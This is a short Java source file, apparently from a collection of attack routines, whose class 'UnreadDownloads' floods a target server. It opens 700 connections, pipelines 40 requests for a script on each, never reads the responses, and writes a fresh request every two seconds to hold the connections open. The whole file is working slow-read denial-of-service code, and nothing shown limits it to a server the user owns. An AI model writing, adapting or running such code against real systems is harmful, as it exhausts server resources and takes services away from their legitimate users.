package games.chalet.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.time.Duration;

/** Downloads that are asked for one behind the other and never taken. */
final class UnreadDownloads implements Attack {

  private static final int CONNECTIONS = 700;
  private static final int PIPELINED = 40;
  private static final Duration BETWEEN_LOOKS = Duration.ofSeconds(2);

  @Override
  public void on(Target target) throws IOException {
    byte[] requests = Http.times(PIPELINED, Http.request("GET", target.script()));
    byte[] one = Http.request("GET", "/");
    target.swarm(
        CONNECTIONS,
        (Socket socket, int number) -> {
          OutputStream out = socket.getOutputStream();
          out.write(requests);
          while (target.goesOn()) {
            target.rest(BETWEEN_LOOKS);
            out.write(one);
            target.count("asked again");
          }
        });
  }
}
